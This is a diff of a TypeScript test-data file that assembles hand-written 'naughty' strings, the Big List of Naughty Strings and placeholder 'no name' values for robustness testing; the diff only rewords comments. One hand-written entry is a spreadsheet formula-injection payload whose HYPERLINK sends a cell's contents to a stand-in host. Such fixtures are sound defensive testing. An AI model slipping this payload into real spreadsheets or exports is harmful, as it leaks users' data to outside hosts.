@@ -1,6 +1,6 @@
 import list from "big-list-of-naughty-strings/blns.json" with { type: "json" };
 
-/** Texts that somebody, somewhere, takes for a formula, a number, a date, markup, a pattern or the end of a text. */
+/** Texts that careless code takes for a formula, a number, a date, markup, a pattern or the end of a text. */
 const BY_HAND: readonly string[] = [
 	'=HYPERLINK("http://example.com/?"&A1;"Click")',
 	"=1+1",
@@ -52,10 +52,10 @@ const BY_HAND: readonly string[] = [
 	`as long as a cell takes: ${"=x<b>".repeat(10_000)}`.slice(0, 50_000),
 ];
 
-/** What names nobody: it says that nobody is known, or nothing at all. */
+/** Texts that count as no name: they mean unknown, or nothing. */
 export const NOBODY: readonly string[] = ["#N/A", "#REF!", "null", "NULL", "-", "--", "\u200b"];
 
-/** The ones by hand, then the Big List of Naughty Strings, and at last those that name nobody; no two alike, none blank. */
+/** The texts above, then the Big List of Naughty Strings, and last those that count as no name; none twice, none blank. */
 export const naughtyTexts: readonly string[] = [
 	...[...new Set([...BY_HAND, ...list])].filter((text) => text.trim() !== "" && !NOBODY.includes(text)),
 	...NOBODY,
